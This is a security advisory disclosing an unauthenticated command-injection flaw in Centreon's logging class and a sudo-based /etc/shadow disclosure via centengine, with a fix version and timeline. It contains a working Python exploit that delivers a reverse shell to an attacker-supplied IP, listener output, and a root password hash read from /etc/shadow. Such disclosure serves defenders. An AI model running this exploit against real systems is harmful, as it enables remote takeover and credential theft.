Centreon is a popular monitoring solution.
A critical vulnerability has been found in the Centreon logging class allowing remote users to execute arbitrary commands.

SQL injection leading to RCE

Centreon logs SQL database errors in a log file using the "echo" system command and the exec() PHP function. On the authentification class, Centreon use htmlentities with the ENT_QUOTES options to filter SQL entities. However, Centreon doesn't filter the SQL escape character "\" and it is possible to generate an SQL Error. Because of the use of the "echo" system command with the PHP exec() function, and because of the lack of sanitization, it is possible to inject arbitrary system commands.

Access Vector: remote

Security Risk: high

Vulnerability: CWE-78

Proof of Concept

TCP Reverse Shell using python.

#!/usr/bin/env python
import requests
import argparse

def shell(target, reverseip, reverseport):
    payload = 'import socket as a,subprocess as b,os as c;s=a.socket(2,1);s.connect(("%s",%d));d=s.fileno();c.dup2(d,0);c.dup2(d,1);c.dup2(d,2);p=b.call(["sh"]);' % (reverseip,reverseport)
    print "[~] Starting reverseshell : %s - port : %d" % (reverseip, reverseport)
    req = requests.post(target, data={"useralias":"$(echo %s | base64 -d | python)\\" % payload.encode("base64").replace("\n",""), "password": "foo"})
    print "[+] DEAD !"

if __name__ == "__main__":
    print "[~] Centreon Unauthentificated RCE - Nicolas Chatelain <[email protected]>"
    parser = argparse.ArgumentParser()
    parser.add_argument("--target", required=True)
    parser.add_argument("--reverseip", required=True)
    parser.add_argument("--reverseport", required=True, type=int)
    args = parser.parse_args()
    shell(args.target, args.reverseip, args.reverseport)

Shell :

[email protected] ~/Lab/Centreon $ python reverseshell.py --target= --reverseip= --reverseport 8888
[~] Centreon Unauthentificated RCE - Nicolas Chatelain <[email protected]>
[~] Starting reverseshell : - port : 8888

Other term

[email protected] ~/Lab/Centreon $ nc -lvp 8888 Ncat: Version 6.45 ( http://nmap.org/ncat ) Ncat: Listening on :::8888 Ncat: Listening on Ncat: Connection from Ncat: Connection from whoami apache groups apache centreon-engine centreon-broker centreon nagios

Vulnerable code

The vulnerable code is located in class/centreonLog.class.php, line 82 and line 154:

     * print Error in log file.
    exec("echo \"".$string."\" >> ".$this->errorType[$id]);

In class/centreonAuth.class.php, line 227:$DBRESULT = $this->pearDB->query("SELECT * FROM `contact` WHERE `contact_alias` = '" . htmlentities($username, ENT_QUOTES, "UTF-8") . "' AND `contact_activate` = '1' AND       `contact_register` = '1' LIMIT 1");


Update to the Centreon 2.5.4

Possible root password disclosure in centengine (Centreon Entreprise Server)

In some configurations, when centengine can run as root (with sudo). It's possible to read some file content.

Access Vector: local

Security Risk: high

Vulnerability: CWE-209

Proof of Concept

$ sudo /usr/sbin/centengine -v /etc/shadow
[1416391088] reading main config file
[1416391088] error while processing a config file: [/etc/shadow:1] bad variable name: 'root:$6$3mvvEHQM3p3afuh4$DZ377daOy.8bn42t7ur82/Geplvsj90J7cs1xsgAbRZ0JDZ8KdB5CcQ0ucF5dwKpnBYLon1XBqjJPqpm6Zr5R0:16392:0:99999:7:::'

Vulnerable code

In Centreon Entreprise Server (CES) : /etc/sudoers.d/centreon

CENTREON ALL = NOPASSWD: /usr/sbin/centengine -v *


Do not allow centengine to be run as root or do not disclose the line that caused the error.Timeline (dd/mm/yyyy)

  • 18/11/2014 : Initial discovery
  • 26/11/2014 : Contact with Centreon team
  • 27/11/2014 : Centreon correct vulnerabilities
  • 27/11/2014 : Centreon releaseversion 2.5.4 that fixes vulnerabilities


Affectedversions

  • Centreon<= 2.5.3


  • Nicolas CHATELAIN, Sysdream(n.chatelain -at- sysdream -dot- com)